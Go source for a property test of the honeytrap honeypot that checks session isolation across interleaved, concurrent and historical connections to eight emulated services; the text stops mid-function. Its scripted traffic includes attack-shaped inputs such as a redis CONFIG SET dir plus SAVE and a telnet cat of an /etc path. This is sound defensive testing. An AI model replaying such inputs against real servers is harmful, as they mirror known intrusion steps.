package lab

import (
	"sync"

	"github.com/honeytrap/honeytrap/utils/verifhook"
)

var (
	yieldMu  sync.RWMutex
	yieldFns = map[string]func(){}
	yieldHit = map[string]int64{}
)

func init() {
	verifhook.Install(func(name string) {
		yieldMu.Lock()
		yieldHit[name]++
		f := yieldFns[name]
		yieldMu.Unlock()
		if f != nil {
			f()
		}
	})
}

// OnYield installs the function run at a named yield point (one per name).
func OnYield(name string, f func()) {
	yieldMu.Lock()
	yieldFns[name] = f
	yieldMu.Unlock()
}

// YieldHits reports how often a yield point has been reached.
func YieldHits(name string) int64 {
	yieldMu.RLock()
	defer yieldMu.RUnlock()
	return yieldHit[name]
}
