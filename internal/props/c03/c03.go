// Package c03: connections are isolated; events name the connection that
// caused them. Scripted sessions stamped with unique tokens are run solo on a
// fresh server (the reference), then interleaved at step granularity, truly
// concurrently, and after histories of earlier sessions; each session's
// canonical transcript and attributed events must equal its solo run, and no
// token or address may show up with another session.
package c03

import (
	"encoding/hex"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"sort"
	"strings"
	"sync"
	"time"

	"verif/htlab/internal/core"
	"verif/htlab/internal/gen"
	"verif/htlab/internal/lab"
)

type prop struct{}

func init() { core.Register(prop{}) }

func (prop) ID() string    { return "C03" }
func (prop) Level() string { return "exploration" }
func (prop) Rule() string {
	return "scenario = one stateful service (ldap, ftp, smtp, telnet, redis, memcached, http, tftp) and 2-3 scripted sessions with distinct client addresses and unique tokens: every step-level interleaving up to the bound (2 sessions x <=4 steps = 70; 3x3 = 1680 in thorough; sampled beyond), true concurrency (parallel goroutines, repeated, also under the race detector), and sequential histories of 1..20 earlier sessions (complete, aborted mid-command, left logged in / in a sub-directory / mail half-sent) followed by a probe session. Oracle: canonical transcript and events of each session == its solo run; every event's address is the address of the session whose token it carries; session ids partition events like addresses. Non-trivial = a run in which every session got >=1 reply byte or event; distinct by (service, sessions, interleaving). Also sessions that share a host and differ in the source port only (interleave-samehost, concurrent-samehost; for tftp within the per-host reply budget). The ftp templates include a session whose TLS upgrade fails (AUTH TLS followed by a handshake record that is not a ClientHello) and that goes on in plain text. smtp has a chunked-transfer (BDAT) template; a service may name several ways of abandoning a session (smtp: inside DATA, after a BDAT chunk that is not the last, after the envelope only) and each of them precedes every probe template in fixed history plans, directly and with one complete session in between. The ldap service is configured with two naming contexts in non-alphabetical order. ftp has a passive-mode template; every second earlier session of a history reaches the service on 10.0.0.2; every history runs on an instance of its own; each of the first three templates precedes every probe template in a fixed plan."
}
func (prop) Assumptions() []string {
	return []string{"only fields shown unstable by construction are masked: timestamps, session ids, message digests derived from the token", "tokens are replaced by a placeholder before comparison so that a fresh token per run does not count as a difference",
		"each solo reference runs on a service instance of its own (fresh server.Run); all other runs of a service share one instance, as production does"}
}

type sess struct {
	Name  string
	Steps func(tok string) [][]byte
}

type svcDef struct {
	Name  string
	Type  string
	Net   string
	Port  int
	Extra string
	Sess  []sess
	Abort func(tok string) [][]byte // history element: session aborted mid-command / left in a state
	// further ways to leave a session unfinished (history codes 4, 5, ...); every one of them precedes every probe
	// template in a fixed plan of its own
	Aborts []func(tok string) [][]byte
	SidKey string
}

func lines(l ...string) [][]byte {
	var o [][]byte
	for _, x := range l {
		o = append(o, []byte(x+"\r\n"))
	}
	return o
}

var svcs = []svcDef{
	{Name: "ftp", Type: "ftp", Net: "tcp", Port: 21, Extra: "fs_base=\"$WORK/ftproot\"\n", SidKey: "ftp.sessionid",
		Sess: []sess{
			{"login-cwd-pub", func(t string) [][]byte { return lines("USER anonymous", "PASS anonymous", "CWD pub", "PWD", "SIZE "+t) }},
			{"login-pwd", func(t string) [][]byte {
				return lines("USER anonymous", "PASS anonymous", "PWD", "SIZE "+t, "CWD incoming", "PWD")
			}},
			// passive mode: the reply names the address the client reached the service on
			{"login-pasv", func(t string) [][]byte { return lines("USER anonymous", "PASS anonymous", "PASV", "SIZE "+t, "PASV") }},
			{"badlogin-gated", func(t string) [][]byte { return lines("USER "+t, "PASS "+t, "PWD", "FEAT") }},
			// a TLS upgrade that fails (a handshake record that is not a ClientHello): the session goes on in plain text
			{"authtls-fails", func(t string) [][]byte {
				st := lines("AUTH TLS")
				st = append(st, []byte{0x16, 0x03, 0x01, 0x00, 0x04, 0x0b, 0x00, 0x00, 0x00})
				return append(st, lines("NOOP", "USER anonymous", "PASS anonymous", "PWD", "SIZE "+t)...)
			}},
		},
		Abort: func(t string) [][]byte {
			return [][]byte{[]byte("USER anonymous\r\n"), []byte("PASS anonymous\r\n"), []byte("CWD incoming\r\n"), []byte("SIZE " + t + "\r\n"), []byte("CWD pu")}
		}},
	{Name: "smtp", Type: "smtp", Net: "tcp", Port: 25,
		Sess: []sess{
			{"mail", func(t string) [][]byte {
				return append(lines("HELO "+t+".test", "MAIL FROM:<"+t+"@a.test>", "RCPT TO:<x@b.test>", "DATA"), []byte("Subject: "+t+"\r\nFrom: "+t+"@a.test\r\n\r\nbody "+t+"\r\n.\r\n"))
			}},
			{"noop", func(t string) [][]byte { return lines("EHLO "+t+".test", "NOOP", "RSET", "HELP") }},
			{"mail2", func(t string) [][]byte {
				return append(lines("HELO "+t+".test", "MAIL FROM:<"+t+"@c.test>", "DATA"), []byte("Subject: second "+t+"\r\n\r\ntext "+t+"\r\n.\r\n"))
			}},
			// a message sent in chunks (BDAT), complete
			{"bdat", func(t string) [][]byte {
				c1 := "Subject: chunked " + t + "\r\n\r\n"
				c2 := "chunk body " + t + "\r\n"
				return append(lines("EHLO "+t+".test", "MAIL FROM:<"+t+"@d.test>", "RCPT TO:<y@b.test>"), []byte(fmt.Sprintf("BDAT %d\r\n%s", len(c1), c1)), []byte(fmt.Sprintf("BDAT %d LAST\r\n%s", len(c2), c2)))
			}},
		},
		// an earlier session that goes away in the middle of a message: half-way through DATA, or (Aborts) after a
		// BDAT chunk that is not the last, or after the envelope only
		Aborts: []func(string) [][]byte{
			func(t string) [][]byte {
				c1 := "Subject: abandoned " + t + "\r\n\r\nleft behind " + t + "\r\n"
				return [][]byte{[]byte("EHLO " + t + ".test\r\n"), []byte("MAIL FROM:<" + t + "@a.test>\r\n"), []byte("RCPT TO:<x@b.test>\r\n"), []byte(fmt.Sprintf("BDAT %d\r\n%s", len(c1), c1))}
			},
			func(t string) [][]byte {
				return [][]byte{[]byte("EHLO " + t + ".test\r\n"), []byte("MAIL FROM:<" + t + "@e.test>\r\n"), []byte("RCPT TO:<" + t + "@b.test>\r\n")}
			},
		},
		Abort: func(t string) [][]byte {
			return [][]byte{[]byte("HELO " + t + ".test\r\n"), []byte("MAIL FROM:<" + t + "@a.test>\r\n"), []byte("DATA\r\n"), []byte("Subject: half " + t + "\r\n\r\nunfinished")}
		}},
	{Name: "ldap", Type: "ldap", Net: "tcp", Port: 389, Extra: "credentials=[\"root:root\"]\nnaming-contexts=[\"dc=example,dc=com\",\"dc=ad,dc=myserver,dc=com\"]\n",
		Sess: []sess{
			{"bind-add", func(t string) [][]byte {
				return [][]byte{gen.LDAPBind(1, "root", "root"), gen.LDAPSearch(2, "dc="+t, gen.LDAPFilterEq("uid", t), "cn"), ldapAdd(3, t)}
			}},
			{"anon-add", func(t string) [][]byte {
				return [][]byte{gen.LDAPSearch(1, "", gen.LDAPFilterPresent("objectClass")), ldapAdd(2, t), gen.LDAPSearch(3, "dc="+t, gen.LDAPFilterEq("uid", t))}
			}},
			{"badbind-del", func(t string) [][]byte {
				return [][]byte{gen.LDAPBind(1, "cn="+t, "nope"), gen.LDAPMsg(2, gen.BER(0x4a, []byte("cn="+t+",dc=y"))), gen.LDAPSearch(3, "", gen.LDAPFilterPresent("objectClass"))}
			}},
		},
		Abort: func(t string) [][]byte {
			b := gen.LDAPBind(1, "root", "root")
			s := gen.LDAPSearch(2, "dc="+t, gen.LDAPFilterEq("uid", t))
			return [][]byte{b, s[:len(s)/2]}
		}},
	{Name: "telnet", Type: "telnet", Net: "tcp", Port: 23, SidKey: "telnet.sessionid",
		Sess: []sess{
			{"login-cmds", func(t string) [][]byte { return lines("user"+t, "pass"+t, "echo "+t, "ls") }},
			{"login-one", func(t string) [][]byte { return lines(t, t, "cat /etc/"+t) }},
			{"user-only", func(t string) [][]byte { return lines("only" + t) }},
		},
		Abort: func(t string) [][]byte { return [][]byte{[]byte("u" + t + "\r\n"), []byte("half")} }},
	{Name: "redis", Type: "redis", Net: "tcp", Port: 6379,
		Sess: []sess{
			{"set-get", func(t string) [][]byte { return [][]byte{respCmd("SET", t, "v"+t), respCmd("GET", t), respCmd("PING")} }},
			{"keys", func(t string) [][]byte {
				return [][]byte{respCmd("KEYS", t+"*"), respCmd("DEL", t), respCmd("FOO" + t)}
			}},
			{"config", func(t string) [][]byte { return [][]byte{respCmd("CONFIG", "SET", "dir", "/"+t), respCmd("SAVE")} }},
		},
		Abort: func(t string) [][]byte { c := respCmd("SET", t, "x"); return [][]byte{c[:len(c)-4]} }},
	{Name: "memcached", Type: "memcached", Net: "tcp", Port: 11211,
		Sess: []sess{
			{"set-get", func(t string) [][]byte {
				return [][]byte{[]byte("set " + t + " 0 0 5\r\nhello\r\n"), []byte("get " + t + "\r\n"), []byte("stats\r\n")}
			}},
			{"get", func(t string) [][]byte { return lines("get "+t, "delete "+t, "version") }},
			{"add", func(t string) [][]byte {
				return [][]byte{[]byte("add " + t + " 1 2 3\r\nabc\r\n"), []byte("flush_all\r\n")}
			}},
		},
		Abort: func(t string) [][]byte { return [][]byte{[]byte("set " + t + " 0 0 50\r\nshort")} }},
	{Name: "http", Type: "http", Net: "tcp", Port: 80, SidKey: "http.sessionid",
		Sess: []sess{
			{"get-post", func(t string) [][]byte {
				return [][]byte{gen.HTTPRequest("GET", "/"+t, [][2]string{{"Host", t + ".test"}, {"Cookie", "id=" + t}}, nil, false), gen.HTTPRequest("POST", "/form/"+t, [][2]string{{"Host", t + ".test"}}, []byte("k="+t), false)}
			}},
			{"get2", func(t string) [][]byte {
				return [][]byte{gen.HTTPRequest("GET", "/a/"+t, [][2]string{{"Host", "h.test"}, {"X-T", t}}, nil, false), gen.HTTPRequest("GET", "/b/"+t, [][2]string{{"Host", "h.test"}}, nil, false), gen.HTTPRequest("DELETE", "/c/"+t, [][2]string{{"Host", "h.test"}}, nil, false)}
			}},
			{"put", func(t string) [][]byte {
				return [][]byte{gen.HTTPRequest("PUT", "/up/"+t, [][2]string{{"Host", "h.test"}}, []byte(strings.Repeat(t, 20)), true)}
			}},
		},
		Abort: func(t string) [][]byte {
			return [][]byte{[]byte("POST /" + t + " HTTP/1.1\r\nHost: x\r\nContent-Length: 100\r\n\r\nshort")}
		}},
	{Name: "tftp", Type: "tftp", Net: "udp", Port: 69,
		Sess: []sess{
			{"write", func(t string) [][]byte {
				return [][]byte{gen.TFTPPacket(2, "f-"+t, "octet"), append([]byte{0, 3, 0, 1}, []byte(t+strings.Repeat("x", 512-len(t)))...), append([]byte{0, 3, 0, 2}, []byte("tail-"+t)...)}
			}},
			{"read", func(t string) [][]byte { return [][]byte{gen.TFTPPacket(1, "r-"+t, "netascii")} }},
			{"write2", func(t string) [][]byte {
				return [][]byte{gen.TFTPPacket(2, "g-"+t, "octet"), append([]byte{0, 3, 0, 1}, []byte("small-"+t)...)}
			}},
		},
		Abort: func(t string) [][]byte {
			return [][]byte{gen.TFTPPacket(2, "h-"+t, "octet"), append([]byte{0, 3, 0, 1}, make([]byte, 512)...)}
		}},
}

func ldapAdd(id int, t string) []byte {
	return gen.LDAPMsg(id, gen.BER(0x68, gen.BERStr("cn="+t+",dc=y"), gen.BER(0x30, gen.BER(0x30, gen.BERStr("cn"), gen.BER(0x31, gen.BERStr(t))))))
}

func respCmd(args ...string) []byte {
	s := fmt.Sprintf("*%d\r\n", len(args))
	for _, a := range args {
		s += fmt.Sprintf("$%d\r\n%s\r\n", len(a), a)
	}
	return []byte(s)
}

// ---- run plans -------------------------------------------------------------------

type runPlan struct {
	Kind  string `json:"kind"` // solo | interleave | concurrent | history
	Sess  []int  `json:"sess"` // session template indices
	Order []int  `json:"order,omitempty"`
	Hist  []int  `json:"hist,omitempty"` // history: kinds of earlier sessions: 0..2 complete template, 3 abort
}

// interleavings of session step counts (all, as sequences of session indices).
func interleavings(counts []int, limit int, r *core.Rng) [][]int {
	var out [][]int
	var rec func(cur []int, left []int)
	rec = func(cur []int, left []int) {
		done := true
		for i, l := range left {
			if l > 0 {
				done = false
				left[i]--
				rec(append(cur, i), left)
				left[i]++
			}
		}
		if done {
			out = append(out, append([]int(nil), cur...))
		}
	}
	rec(nil, append([]int(nil), counts...))
	if limit > 0 && len(out) > limit {
		perm := r.Perm(len(out))[:limit]
		sort.Ints(perm)
		var sub [][]int
		for _, i := range perm {
			sub = append(sub, out[i])
		}
		out = sub
	}
	return out
}

func plans(sv svcDef, tier string, seed int64) []runPlan {
	r := core.NewRng(seed, "C03/plan/"+sv.Name, 0)
	var ps []runPlan
	for i := range sv.Sess {
		ps = append(ps, runPlan{Kind: "solo", Sess: []int{i}})
	}
	steps := func(i int) int { return len(sv.Sess[i].Steps("x")) }
	pairLimit, tripleLimit, conc, hist := 40, 20, 12, []int{1, 2, 5}
	if tier == "thorough" {
		pairLimit, tripleLimit, conc, hist = 0, 1680, 120, []int{1, 2, 5, 20}
	}
	for a := 0; a < len(sv.Sess); a++ {
		for b := 0; b < len(sv.Sess); b++ {
			if a == b {
				continue
			}
			for _, o := range interleavings([]int{steps(a), steps(b)}, pairLimit, r) {
				ps = append(ps, runPlan{Kind: "interleave", Sess: []int{a, b}, Order: o})
			}
		}
	}
	// same template twice (two clients doing the same thing)
	for a := 0; a < len(sv.Sess); a++ {
		for _, o := range interleavings([]int{steps(a), steps(a)}, pairLimit/4+1, r) {
			ps = append(ps, runPlan{Kind: "interleave", Sess: []int{a, a}, Order: o})
		}
	}
	if len(sv.Sess) >= 3 {
		c := []int{mini(steps(0), 3), mini(steps(1), 3), mini(steps(2), 3)}
		for _, o := range interleavings(c, tripleLimit, r) {
			ps = append(ps, runPlan{Kind: "interleave", Sess: []int{0, 1, 2}, Order: o})
		}
	}
	for i := 0; i < conc; i++ {
		n := r.Range(2, 3)
		var ss []int
		for j := 0; j < n; j++ {
			ss = append(ss, r.Intn(len(sv.Sess)))
		}
		ps = append(ps, runPlan{Kind: "concurrent", Sess: ss})
	}
	for _, n := range hist {
		for probe := 0; probe < len(sv.Sess); probe++ {
			var h []int
			for j := 0; j < n; j++ {
				h = append(h, r.Intn(4))
			}
			ps = append(ps, runPlan{Kind: "history", Sess: []int{probe}, Hist: h})
		}
	}
	// every one of the first three session templates, complete, directly before every probe template (the earlier
	// session reaches the service on another of its addresses)
	for t := 0; t < 3 && t < len(sv.Sess); t++ {
		for probe := 0; probe < len(sv.Sess); probe++ {
			ps = append(ps, runPlan{Kind: "history", Sess: []int{probe}, Hist: []int{t}})
		}
	}
	// every way of abandoning a session, directly before every probe template and with one complete session between
	for c := 3; c < 4+len(sv.Aborts); c++ {
		for probe := 0; probe < len(sv.Sess); probe++ {
			ps = append(ps, runPlan{Kind: "history", Sess: []int{probe}, Hist: []int{c}})
			ps = append(ps, runPlan{Kind: "history", Sess: []int{probe}, Hist: []int{c, (probe + c) % 3}})
		}
	}
	// clients that share a host: distinct addresses that differ in the port only (NAT, two processes on one
	// machine). For the datagram service the pair stays within the per-host reply budget (4), which the
	// solo runs do not share.
	sameLimit := 6
	if tier == "thorough" {
		sameLimit = 40
	}
	for a := 0; a < len(sv.Sess); a++ {
		for b := a; b < len(sv.Sess); b++ {
			if sv.Net == "udp" && steps(a)+steps(b) > 4 {
				continue
			}
			for _, o := range interleavings([]int{steps(a), steps(b)}, sameLimit, r) {
				ps = append(ps, runPlan{Kind: "interleave-samehost", Sess: []int{a, b}, Order: o})
			}
			ps = append(ps, runPlan{Kind: "concurrent-samehost", Sess: []int{a, b}})
		}
	}
	return ps
}

func mini(a, b int) int {
	if a < b {
		return a
	}
	return b
}

// ---- child -------------------------------------------------------------------------

type sessObs struct {
	Tmpl   int      `json:"tmpl"`
	Tok    string   `json:"tok"`
	Addr   string   `json:"addr"`
	Trans  []string `json:"trans"`  // canonical reply per step
	Events []string `json:"events"` // canonical events attributed by address
}

type runObs struct {
	Plan     runPlan   `json:"plan"`
	Sessions []sessObs `json:"sessions"`
	Foreign  []string  `json:"foreign,omitempty"` // events carrying a token with another session's (or nobody's) address
	SidBad   []string  `json:"sid_bad,omitempty"`
}

var (
	reDigest = regexp.MustCompile(`queued as \+[0-9a-f]+`)
	// the port of a passive-mode reply is the listener's choice; the address is the one the client connected to
	rePasvPort = regexp.MustCompile(`\((\d+,\d+,\d+,\d+),\d+,\d+\)`)
)

// berSplit splits concatenated BER elements (definite lengths) into (header, content) pairs.
func berSplit(b []byte) (els [][2][]byte, ok bool) {
	for len(b) > 0 {
		if len(b) < 2 {
			return nil, false
		}
		l, h := int(b[1]), 2
		if l&0x80 != 0 {
			n := l & 0x7f
			if n == 0 || n > 4 || len(b) < 2+n {
				return nil, false
			}
			l = 0
			for _, x := range b[2 : 2+n] {
				l = l<<8 | int(x)
			}
			h = 2 + n
		}
		if len(b) < h+l {
			return nil, false
		}
		els = append(els, [2][]byte{b[:h], b[h : h+l]})
		b = b[h+l:]
	}
	return els, true
}

// canonLDAP sorts the attribute list of every SearchResultEntry: the service
// builds it by ranging over a Go map, so its order is unspecified.
func canonLDAP(b []byte) []byte {
	msgs, ok := berSplit(b)
	if !ok {
		return b
	}
	var out []byte
	for _, m := range msgs {
		parts, ok := berSplit(m[1])
		if !ok || len(parts) < 2 || parts[1][0][0] != 0x64 {
			out = append(out, m[0]...)
			out = append(out, m[1]...)
			continue
		}
		entry, ok := berSplit(parts[1][1])
		if !ok || len(entry) != 2 {
			out = append(out, m[0]...)
			out = append(out, m[1]...)
			continue
		}
		attrs, ok := berSplit(entry[1][1])
		if !ok {
			out = append(out, m[0]...)
			out = append(out, m[1]...)
			continue
		}
		var as []string
		for _, a := range attrs {
			as = append(as, string(a[0])+string(a[1]))
		}
		sort.Strings(as)
		out = append(out, m[0]...)
		out = append(out, parts[0][0]...)
		out = append(out, parts[0][1]...)
		out = append(out, parts[1][0]...)
		out = append(out, entry[0][0]...)
		out = append(out, entry[0][1]...)
		out = append(out, entry[1][0]...)
		for _, a := range as {
			out = append(out, a...)
		}
	}
	return out
}

func canonText(b []byte, toks map[string]string) string {
	if len(b) > 2 && b[0] == 0x30 {
		b = canonLDAP(b)
	}
	s := string(b)
	s = reDigest.ReplaceAllString(s, "queued as +<DIGEST>")
	s = rePasvPort.ReplaceAllString(s, "($1,<P1>,<P2>)")
	for tok, name := range toks {
		s = strings.ReplaceAll(s, tok, name)
		s = strings.ReplaceAll(s, hex.EncodeToString([]byte(tok)), "<HEX"+name+">")
	}
	// keep binary replies printable
	for _, c := range []byte(s) {
		if c < 9 || c > 126 {
			hx := hex.EncodeToString(b)
			for tok, name := range toks {
				hx = strings.ReplaceAll(hx, hex.EncodeToString([]byte(tok)), "<"+hex.EncodeToString([]byte(name))+">")
			}
			return "hex:" + hx
		}
	}
	return s
}

var skipKeys = map[string]bool{"date": true, "token": true, "stacktrace": true}

func canonEvent(rec core.EvRec, toks map[string]string, sidKey string) string {
	var ks []string
	for k := range rec.KV {
		if skipKeys[k] || k == sidKey || k == "source-ip" || k == "source-port" {
			continue
		}
		ks = append(ks, k)
	}
	sort.Strings(ks)
	var parts []string
	for _, k := range ks {
		tv := rec.KV[k]
		v := fmt.Sprint(tv.V)
		if tv.H != "" || tv.T == "string" || tv.T == "[]byte" {
			raw, _ := hex.DecodeString(tv.H)
			v = canonText(raw, toks)
		} else {
			for tok, name := range toks {
				v = strings.ReplaceAll(v, tok, name)
			}
		}
		parts = append(parts, k+"="+v)
	}
	return strings.Join(parts, " ; ")
}

type params struct {
	Svc int `json:"svc"`
}

func (prop) Plan(tier string, seed int64) []core.Batch {
	var plan []core.Batch
	for i, sv := range svcs {
		p, _ := json.Marshal(params{Svc: i})
		n := len(plans(sv, tier, seed))
		plan = append(plan, core.Batch{Name: sv.Name, N: n, Params: p, Timeout: 1500})
		// the truly concurrent runs again under the race detector (diagnostic)
		plan = append(plan, core.Batch{Name: sv.Name + "/race", N: n, Params: p, Race: true, Timeout: 1500})
	}
	return plan
}

func config(sv svcDef, work string) string {
	extra := strings.ReplaceAll(sv.Extra, "$WORK", work)
	return fmt.Sprintf("[listener]\ntype=\"lab\"\n[channel.cap0]\ntype=\"lab-capture\"\nid=\"cap0\"\n[[filter]]\nchannel=[\"cap0\"]\n[service.sut]\ntype=%q\n%s[[port]]\nport=\"%s/%d\"\nservices=[\"sut\"]\n", sv.Type, extra, sv.Net, sv.Port)
}

type live struct {
	tmpl  int
	tok   string
	ip    string
	port  int
	steps [][]byte
	cl    *lab.Client
	cc    *lab.CliConn
	trans []string
	next  int
	xs    []*lab.UDPExchange
	stuck bool
}

var stuckCount int

var addrSeq int

// earlierDst: the address earlier sessions of a history reach the service on (a sensor that answers on several
// addresses); probe and solo sessions use 10.0.0.1
const earlierDst = "10.0.0.2"

func newLive(srv *lab.Server, sv svcDef, tmpl int, tok string, steps [][]byte, host string, dst ...string) *live {
	addrSeq++
	l := &live{tmpl: tmpl, tok: tok, ip: fmt.Sprintf("198.51.%d.%d", 100+(addrSeq>>8)&127, addrSeq&255), port: 30000 + addrSeq%30000, steps: steps}
	if host != "" {
		l.ip = host
	}
	if sv.Net == "tcp" {
		to := "10.0.0.1"
		if len(dst) > 0 {
			to = dst[0]
		}
		l.cc = srv.L.DialTCP(lab.TCPAddr(to, sv.Port), lab.TCPAddr(l.ip, l.port))
		l.cl = lab.NewClient(l.cc)
		l.cl.WaitIdle(300 * time.Millisecond) // banner
	}
	return l
}

func (l *live) step(srv *lab.Server, sv svcDef) {
	if l.next >= len(l.steps) {
		return
	}
	st := l.steps[l.next]
	l.next++
	if sv.Net == "udp" {
		x := srv.L.SendUDP(lab.UDPAddr("10.0.0.1", sv.Port), lab.UDPAddr(l.ip, l.port), st)
		deadline := time.Now().Add(300 * time.Millisecond)
		for x.Count() == 0 && time.Now().Before(deadline) {
			time.Sleep(200 * time.Microsecond)
		}
		time.Sleep(2 * time.Millisecond)
		var rep []byte
		for _, r := range x.Snapshot() {
			rep = append(rep, r...)
		}
		l.trans = append(l.trans, string(rep))
		return
	}
	if l.stuck {
		l.trans = append(l.trans, "!stuck")
		return
	}
	before := len(l.cl.Received())
	to := 2 * time.Second
	if stuckCount > 10 {
		to = 150 * time.Millisecond // the defect is established; do not spend the budget on it
	}
	if err := l.cl.Send(st, to); err != nil {
		l.trans = append(l.trans, "!send:"+err.Error())
		l.stuck = true
		stuckCount++
		return
	}
	if l.cl.WaitIdle(to/4) == "timeout" {
		l.stuck = true
		stuckCount++
	}
	got := l.cl.Received()
	l.trans = append(l.trans, string(got[mini(before, len(got)):]))
}

func (l *live) finish() {
	if l.cl != nil {
		l.cl.Close()
		deadline := time.Now().Add(300 * time.Millisecond)
		for !l.cc.Srv.Closed() && time.Now().Before(deadline) {
			time.Sleep(300 * time.Microsecond)
		}
	}
}

func (prop) Child(b core.Batch, o *core.Obs) {
	var p params
	b.P(&p)
	sv := svcs[p.Svc]
	work := lab.WorkDir()
	os.MkdirAll(work+"/ftproot", 0755)
	fresh := func() (*lab.Server, error) {
		srv, err := lab.Start(config(sv, work))
		if err == nil && sv.Type == "ftp" {
			roots, _ := filepath.Glob(work + "/ftproot/ftp/*")
			for _, r := range roots {
				os.MkdirAll(r+"/pub", 0755)
				os.MkdirAll(r+"/incoming", 0755)
			}
		}
		return srv, err
	}
	srv, err := fresh()
	if err != nil {
		o.Emit(core.Rec{T: "starterr", S: err.Error()})
		return
	}
	ps := plans(sv, b.Tier, b.Seed)
	to := b.To
	if to == 0 {
		to = b.N
	}
	for k := b.From; k < to && k < len(ps); k++ {
		pl := ps[k]
		if b.Race && pl.Kind != "concurrent" && pl.Kind != "concurrent-samehost" && pl.Kind != "solo" {
			continue
		}
		o.Begin(k)
		if pl.Kind == "solo" || pl.Kind == "history" || (k > 0 && (ps[k-1].Kind == "solo" || ps[k-1].Kind == "history")) {
			// every solo reference and every history (its earlier sessions are then the first the instance ever
			// served) runs on a service instance of its own, and the remaining runs share one more fresh instance
			if s2, err := fresh(); err == nil {
				srv.Stop()
				srv = s2
			}
		}
		ev0 := lab.Events.Len()
		toks := map[string]string{}
		var ls []*live
		mk := func(i, tmpl int) *live {
			tok := "tk" + core.NewRng(b.Seed, "C03/tok", k*10+i).Alnum(10)
			toks[tok] = fmt.Sprintf("<TOK%d>", i)
			host := ""
			if strings.HasSuffix(pl.Kind, "-samehost") && len(ls) > 0 {
				host = ls[0].ip
			}
			return newLive(srv, sv, tmpl, tok, sv.Sess[tmpl].Steps(tok), host)
		}
		switch pl.Kind {
		case "solo", "history":
			for j, h := range pl.Hist {
				tok := "hk" + core.NewRng(b.Seed, "C03/htok", k*100+j).Alnum(10)
				var steps [][]byte
				if h == 3 {
					steps = sv.Abort(tok)
				} else if h > 3 {
					steps = sv.Aborts[(h-4)%len(sv.Aborts)](tok)
				} else {
					steps = sv.Sess[h%len(sv.Sess)].Steps(tok)
				}
				var hl *live
				if j%2 == 0 {
					hl = newLive(srv, sv, -1, tok, steps, "", earlierDst)
				} else {
					hl = newLive(srv, sv, -1, tok, steps, "")
				}
				for range steps {
					hl.step(srv, sv)
				}
				hl.finish()
			}
			l := mk(0, pl.Sess[0])
			ls = append(ls, l)
			for range l.steps {
				l.step(srv, sv)
			}
		case "interleave", "interleave-samehost":
			for i, t := range pl.Sess {
				ls = append(ls, mk(i, t))
			}
			for _, si := range pl.Order {
				ls[si].step(srv, sv)
			}
		case "concurrent", "concurrent-samehost":
			for i, t := range pl.Sess {
				ls = append(ls, mk(i, t))
			}
			var wg sync.WaitGroup
			for _, l := range ls {
				wg.Add(1)
				go func(l *live) {
					defer wg.Done()
					for range l.steps {
						l.step(srv, sv)
					}
				}(l)
			}
			wg.Wait()
		}
		// wait for asynchronous event pumps: the count each session had in its solo run is not known here, so settle generously
		lab.Events.Settle(15*time.Millisecond, 400*time.Millisecond)
		for _, l := range ls {
			l.finish()
		}
		lab.Events.Settle(10*time.Millisecond, 200*time.Millisecond)
		ob := runObs{Plan: pl}
		evs := lab.Events.Since(ev0)
		addrOf := map[string]int{}
		for i, l := range ls {
			addrOf[fmt.Sprintf("%s:%d", l.ip, l.port)] = i
		}
		sidAddr := map[string]string{}
		for i, l := range ls {
			so := sessObs{Tmpl: l.tmpl, Tok: l.tok, Addr: fmt.Sprintf("%s:%d", l.ip, l.port)}
			one := map[string]string{l.tok: "<TOK>"}
			for _, t := range l.trans {
				so.Trans = append(so.Trans, canonText([]byte(t), one))
				for tok := range toks {
					if tok != l.tok && strings.Contains(t, tok) {
						ob.Foreign = append(ob.Foreign, fmt.Sprintf("reply to session %d contains the token of another session", i))
					}
				}
			}
			for _, c := range evs {
				sp, _ := lab.Int(c.Rec, "source-port")
				if lab.Str(c.Rec, "source-ip") == l.ip && int(sp) == l.port {
					so.Events = append(so.Events, canonEvent(c.Rec, one, sv.SidKey))
				}
			}
			ob.Sessions = append(ob.Sessions, so)
		}
		for _, c := range evs {
			sp, _ := lab.Int(c.Rec, "source-port")
			addr := fmt.Sprintf("%s:%d", lab.Str(c.Rec, "source-ip"), sp)
			owner, known := addrOf[addr]
			flat := canonEvent(c.Rec, nil, "")
			for i, l := range ls {
				if strings.Contains(flat, l.tok) || strings.Contains(flat, hex.EncodeToString([]byte(l.tok))) {
					if !known {
						ob.Foreign = append(ob.Foreign, fmt.Sprintf("event carrying session %d's token has address %s, which is not a session of this run (category %s)", i, addr, lab.Str(c.Rec, "category")))
					} else if owner != i {
						ob.Foreign = append(ob.Foreign, fmt.Sprintf("event carrying session %d's token has session %d's address (category %s)", i, owner, lab.Str(c.Rec, "category")))
					}
				}
			}
			if sv.SidKey != "" && known {
				if sid := lab.Str(c.Rec, sv.SidKey); sid != "" {
					if a, ok := sidAddr[sid]; ok && a != addr {
						ob.SidBad = append(ob.SidBad, fmt.Sprintf("session id %s appears with addresses %s and %s", sid, a, addr))
					}
					sidAddr[sid] = addr
				}
			}
		}
		o.EmitX("run", ob)
		o.End(k)
	}
}

// ---- judge ---------------------------------------------------------------------------

func (prop) Judge(b core.Batch, recs []core.Rec, exits []core.Exit) []core.Result {
	var p params
	b.P(&p)
	sv := svcs[p.Svc]
	var out []core.Result
	solo := map[int]sessObs{}
	for _, r := range recs {
		switch r.T {
		case "starterr":
			out = append(out, core.Result{K: r.K, Verdict: core.Inconclusive, What: "server did not start: " + r.S})
		case "run":
			var ob runObs
			if r.XInto(&ob) != nil {
				continue
			}
			res := core.Result{K: r.K, Verdict: core.Held}
			nontrivial := true
			for _, s := range ob.Sessions {
				if len(strings.Join(s.Trans, ""))+len(s.Events) == 0 {
					nontrivial = false
				}
			}
			flavour := ""
			if b.Race {
				flavour = "race|"
			}
			if nontrivial {
				res.Key = fmt.Sprintf("%s%s|%s|%v|%v|%v", flavour, sv.Name, ob.Plan.Kind, ob.Plan.Sess, ob.Plan.Order, ob.Plan.Hist)
				res.Sample = map[string]interface{}{"service": sv.Name, "kind": ob.Plan.Kind, "sessions": sessNames(sv, ob.Plan.Sess), "order": ob.Plan.Order, "history": ob.Plan.Hist, "first_session_transcript": clipS(ob.Sessions[0].Trans), "first_session_events": len(ob.Sessions[0].Events)}
			}
			if ob.Plan.Kind == "solo" {
				solo[ob.Plan.Sess[0]] = ob.Sessions[0]
				out = append(out, res)
				continue
			}
			fail := func(rule, what string, w interface{}) {
				if res.Verdict == core.Violated {
					return
				}
				res.Verdict = core.Violated
				res.Sig = "C03|" + sv.Name + "|" + rule
				res.What = what
